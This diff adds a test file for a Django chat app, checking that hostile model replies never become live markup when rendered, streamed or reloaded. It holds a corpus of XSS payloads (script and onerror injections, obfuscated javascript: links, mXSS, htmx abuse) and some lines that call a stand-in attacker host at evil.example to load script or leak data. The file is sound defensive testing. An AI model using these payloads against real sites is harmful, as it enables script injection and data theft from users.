@@ -1,0 +1,323 @@
+"""Hostile model output: rendered, streamed and reloaded, it never becomes markup, script or a link out."""
+
+import json
+from html.parser import HTMLParser
+from types import SimpleNamespace
+from urllib.parse import urljoin, urlsplit
+
+import pytest
+from django.template.loader import render_to_string
+from playwright.sync_api import Dialog, Page, expect
+
+from conversations.models import Message
+from conversations.rendering import render_markdown
+from conversations.services import conversation_create
+from tests.browser.conftest import open_page, sign_in
+from tests.conftest import make_user
+from tests.fake_openai import Reply
+
+
+def chunks(text: str, count: int = 3) -> list[str]:
+    """`text` as `count` stream tokens, cut wherever the lengths fall (mid-tag, mid-URL)."""
+    size = -(-len(text) // count)
+    return [text[i : i + size] for i in range(0, len(text), size)]
+
+
+# (name, the tokens the model streams). Each is also sent as the user's own message.
+CORPUS: list[tuple[str, list[str]]] = [
+    ("script-split", ["<scr", "ipt>alert(1)</scr", "ipt>"]),
+    ("script", chunks("<script>alert(document.domain)</script>")),
+    ("script-uppercase", chunks("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")),
+    ("img-onerror", chunks("<img src=x onerror=alert(1)>")),
+    ("img-onerror-split", ["<", "img", " src=x onerror", "=alert(1)>"]),
+    ("svg-onload", chunks("<svg onload=alert(1)>")),
+    ("svg-script", chunks("<svg><script>alert(1)</script></svg>")),
+    ("svg-xlink", chunks('<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>')),
+    ("iframe-srcdoc", chunks('<iframe srcdoc="<script>alert(1)</script>"></iframe>')),
+    ("object-embed", chunks('<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">')),
+    ("md-javascript-split", ["[x](java", "script:alert(1))"]),
+    ("md-javascript-mixed-case", chunks("[x](JaVaScRiPt:alert(1))")),
+    ("md-javascript-entity-colon", chunks("[x](javascript&#58;alert(1))")),
+    ("md-javascript-entity-letters", chunks("[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))")),
+    ("md-javascript-entity-tab", chunks("[x](java&#x09;script:alert(1))")),
+    ("md-javascript-entity-newline", chunks("[x](jav&#x0A;ascript:alert(1))")),
+    ("md-javascript-percent", chunks("[x](%6Aavascript:alert(1))")),
+    ("md-javascript-angle", chunks("[x](<javascript:alert(1)>)")),
+    ("md-javascript-leading-space", chunks("[x](  javascript:alert(1))")),
+    ("md-file", chunks("[x](file:///etc/passwd)")),
+    ("md-vbscript", chunks("[x](vbscript:msgbox(1))")),
+    ("md-data-html", chunks("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")),
+    ("md-image-javascript", chunks("![x](javascript:alert(1))")),
+    ("md-image-remote", chunks("![leak](https://evil.example/collect?q=secret)")),
+    ("autolink-javascript", chunks("<javascript:alert(1)>")),
+    ("autolink-breakout", chunks('<https://example.com/" onmouseover="alert(1)>')),
+    ("autolink-javascript-upper", chunks("<JAVASCRIPT:alert(1)>")),
+    ("reference-javascript", chunks("[x][1]\n\n[1]: javascript:alert(1)")),
+    ("reference-javascript-angle", chunks('[x][r]\n\n[r]: <javascript:alert(1)> "t"')),
+    ("link-title-breakout", chunks('[x](https://example.com "t\\" onmouseover=\\"alert(1)")')),
+    ("link-destination-breakout", chunks('[x](https://example.com/" onmouseover="alert(1))')),
+    ("raw-anchor", chunks('<a href="javascript:alert(1)">x</a>')),
+    ("raw-anchor-onclick", chunks('<a href="#" onclick="alert(1)">x</a>')),
+    ("style-url", chunks("<style>body{background:url(https://evil.example/x)}</style>")),
+    ("style-attribute", chunks('<div style="background:url(javascript:alert(1))">x</div>')),
+    (
+        "form-formaction",
+        chunks("<form action=https://evil.example><button formaction=javascript:alert(1)>go</button></form>"),
+    ),
+    ("hx-get", chunks('<div hx-get="/accounts/logout/" hx-trigger="load">x</div>')),
+    ("hx-on", chunks('<div hx-on:htmx:load="alert(1)" hx-on::load="alert(2)">x</div>')),
+    ("data-hx", chunks('<div data-hx-post="/c/x/delete/" data-hx-trigger="load">x</div>')),
+    ("entities-script", chunks("&lt;script&gt;alert(1)&lt;/script&gt;")),
+    ("entities-numeric-img", chunks("&#60;img src=x onerror=alert(1)&#62;")),
+    ("entities-split", ["&l", "t;img src=x onerror=alert(1)&", "gt;"]),
+    ("comment-wrapped", ["<!--", "<img src=x onerror=alert(1)>", "-->"]),
+    ("mxss-math", chunks("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")),
+    ("mxss-noscript", chunks('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')),
+    ("base-href", chunks('<base href="javascript:alert(1)//">')),
+    ("meta-refresh", chunks('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')),
+    ("details-ontoggle", chunks("<details open ontoggle=alert(1)>x</details>")),
+    ("input-onfocus", chunks("<input autofocus onfocus=alert(1)>")),
+    ("fenced-html", chunks("```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```")),
+    ("fence-info-breakout", chunks('```" onmouseover="alert(1)\nx\n```')),
+    ("inline-code", chunks("`<img src=x onerror=alert(1)>`")),
+    ("table-cell", chunks("| a |\n|---|\n| <img src=x onerror=alert(1)> |")),
+    ("template-script", chunks("<template><script>alert(1)</script></template>")),
+]
+
+# What a rendered message may contain at all: Markdown's own output, the streaming
+# placeholder's elements, and nothing else.
+SAFE_TAGS = {
+    *("a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "span", "strong"),
+    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr", "ul"),
+}
+SAFE_ATTRIBUTES = {"href", "title", "class", "start", "rel"}
+SAFE_SCHEMES = {"http", "https", "mailto"}
+# Elements that would run, load or restyle something: never allowed among the messages.
+DENIED_TAGS = {
+    *("script", "iframe", "frame", "object", "embed", "img", "svg", "math", "video", "audio", "source"),
+    *("style", "link", "meta", "base", "template", "noscript"),
+}
+
+
+def test_the_corpus_is_large_enough():
+    assert len({name for name, _tokens in CORPUS}) == len(CORPUS) >= 30
+
+
+# --- The renderer alone ---------------------------------------------------------------------------
+
+
+def scheme_of(href: str) -> str:
+    """The scheme a browser would follow `href` with, from a page of the site."""
+    return urlsplit(urljoin("https://chat.example.com/c/1/", href)).scheme
+
+
+class Offences(HTMLParser):
+    """Every tag, attribute or link in a piece of HTML that a message must not carry."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in SAFE_TAGS:
+            self.found.append(f"<{tag}>")
+        for name, value in attrs:
+            if name not in SAFE_ATTRIBUTES:
+                self.found.append(f"<{tag} {name}>")
+            if name == "href" and scheme_of(value or "") not in SAFE_SCHEMES:
+                self.found.append(f"<{tag} href={value!r}>")
+
+
+@pytest.mark.parametrize(("name", "tokens"), CORPUS, ids=[name for name, _ in CORPUS])
+def test_hostile_markdown_renders_to_safe_html(name, tokens):
+    html = render_markdown("".join(tokens))
+
+    assert Offences(str(html)).found == []
+
+
+class FrameText(HTMLParser):
+    """The tags of a streamed frame, and the text inside its first element."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.text = ""
+        self._depth = 0
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self._depth += 1
+
+    def handle_endtag(self, tag: str) -> None:
+        self._depth -= 1
+
+    def handle_data(self, data: str) -> None:
+        if self._depth == 1 and len(self.tags) == 1:
+            self.text += data
+
+
+@pytest.mark.parametrize(("name", "tokens"), CORPUS, ids=[name for name, _ in CORPUS])
+def test_each_streamed_token_is_sent_as_text(name, tokens):
+    reply = SimpleNamespace(pk=7)
+    frames = [
+        FrameText(render_to_string("chat/frames/delta.html", {"reply": reply, "text": token, "seq": 1}))
+        for token in tokens
+    ]
+
+    assert [(frame.tags, frame.text) for frame in frames] == [(["div", "input"], token) for token in tokens]
+
+
+# --- In a real browser -------------------------------------------------------------------------------
+
+# Installed before any page script; runs outside the page's CSP (Playwright injects it).
+WATCHER = """
+(() => {
+  const ALLOWED = __ALLOWED__;
+  const TAGS = new Set(ALLOWED.tags);
+  const ATTRIBUTES = new Set(ALLOWED.attributes);
+  const SCHEMES = new Set(ALLOWED.schemes);
+  // Never anywhere among the messages or the conversation list (edit boxes, titles...).
+  const DENIED = new Set(ALLOWED.denied);
+  const seen = [];
+  const csp = [];
+  function offences(el) {
+    const found = [];
+    if (!TAGS.has(el.localName)) found.push(`<${el.localName}>`);
+    for (const attr of el.attributes) {
+      if (!ATTRIBUTES.has(attr.name)) found.push(`<${el.localName} ${attr.name}>`);
+    }
+    if (el.hasAttribute("href")) {
+      let scheme;
+      try {
+        scheme = new URL(el.getAttribute("href"), document.baseURI).protocol;
+      } catch (e) {
+        scheme = "?";
+      }
+      if (!SCHEMES.has(scheme)) found.push(`<${el.localName} href=${el.getAttribute("href")}>`);
+    }
+    return found;
+  }
+  function outsideOffences(el) {
+    const found = DENIED.has(el.localName) ? [`<${el.localName}> outside a message body`] : [];
+    for (const attr of el.attributes) {
+      if (attr.name.startsWith("on")) found.push(`<${el.localName} ${attr.name}> outside a message body`);
+    }
+    return found;
+  }
+  function inMessage(el) {
+    return el.parentElement !== null && el.parentElement.closest(".msg-body") !== null;
+  }
+  window.__xss = {
+    seen,
+    csp,
+    scan() {
+      const found = [];
+      for (const el of document.querySelectorAll(".msg-body *")) found.push(...offences(el));
+      for (const el of document.querySelectorAll(".conv-title, .chat-title")) {
+        for (const child of el.children) found.push(`<${child.localName}> in a title`);
+      }
+      for (const el of document.querySelectorAll("#messages *, #conversation-list *, #chat-header *")) {
+        found.push(...outsideOffences(el));
+      }
+      return found;
+    },
+  };
+  document.addEventListener("securitypolicyviolation", (event) => {
+    csp.push(`${event.violatedDirective} ${event.blockedURI}`);
+  });
+  new MutationObserver((records) => {
+    for (const record of records) {
+      const nodes = record.type === "attributes" ? [record.target] : [...record.addedNodes];
+      for (const node of nodes) {
+        if (node.nodeType !== Node.ELEMENT_NODE) continue;
+        for (const el of [node, ...node.querySelectorAll("*")]) {
+          if (inMessage(el)) seen.push(...offences(el));
+          if (el.closest("#messages, #conversation-list")) seen.push(...outsideOffences(el));
+        }
+      }
+    }
+  }).observe(document, { childList: true, subtree: true, attributes: true });
+})();
+""".replace(
+    "__ALLOWED__",
+    json.dumps(
+        {
+            # The streaming placeholder's own elements come and go inside the message body too.
+            "tags": sorted(SAFE_TAGS | {"div", "i"}),
+            "attributes": sorted(SAFE_ATTRIBUTES | {"id", "aria-label", "aria-hidden"}),
+            "schemes": sorted(f"{scheme}:" for scheme in SAFE_SCHEMES),
+            "denied": sorted(DENIED_TAGS),
+        }
+    ),
+)
+
+
+@pytest.fixture
+def watched_page(browser, csp_violations) -> tuple[Page, list[str]]:
+    """A page that records dialogs, CSP reports and every element added to a message."""
+    page = open_page(browser, csp_violations)
+    page.add_init_script(WATCHER)
+    dialogs: list[str] = []
+
+    def record(dialog: Dialog) -> None:
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", record)
+    return page, dialogs
+
+
+def injections(page: Page, dialogs: list[str], csp_violations: list[str]) -> dict[str, list[str]]:
+    return {
+        "dialogs": dialogs,
+        "added to a message": page.evaluate("window.__xss.seen"),
+        "in the page": page.evaluate("window.__xss.scan()"),
+        "csp events": page.evaluate("window.__xss.csp"),
+        "csp console": csp_violations,
+    }
+
+
+NOTHING: dict[str, list[str]] = {
+    "dialogs": [],
+    "added to a message": [],
+    "in the page": [],
+    "csp events": [],
+    "csp console": [],
+}
+
+
+@pytest.mark.django_db(transaction=True)
+def test_hostile_replies_streamed_live_inject_nothing(app_servers, fake_openai, watched_page, csp_violations):
+    live_app = app_servers(CHAT_LIMIT_MESSAGES_PER_MINUTE="0")  # the corpus is sent faster than 20 a minute
+    make_user("alice")
+    page, dialogs = watched_page
+    sign_in(page, live_app, "alice")
+
+    for count, (_name, tokens) in enumerate(CORPUS, start=1):
+        fake_openai.queue_reply(Reply(tokens=tokens))
+        page.fill("#message-input", "".join(tokens))
+        page.keyboard.press("Enter")
+        expect(page.locator(".msg-assistant.status-complete")).to_have_count(count)
+
+    assert injections(page, dialogs, csp_violations) == NOTHING
+
+
+@pytest.mark.django_db(transaction=True)
+def test_hostile_replies_reloaded_from_history_inject_nothing(live_app, watched_page, csp_violations):
+    alice = make_user("alice")
+    conversation = conversation_create(owner=alice, title="".join(CORPUS[0][1]))
+    for _name, tokens in CORPUS:
+        Message.objects.create(conversation=conversation, author="user", content="".join(tokens))
+        Message.objects.create(conversation=conversation, author="assistant", content="".join(tokens))
+    page, dialogs = watched_page
+    sign_in(page, live_app, "alice")
+
+    page.goto(f"{live_app.url}c/{conversation.pk}/")
+    page.wait_for_selector("#connection-state[data-state=open]")
+
+    expect(page.locator(".msg-assistant.status-complete")).to_have_count(len(CORPUS))
+    assert injections(page, dialogs, csp_violations) == NOTHING
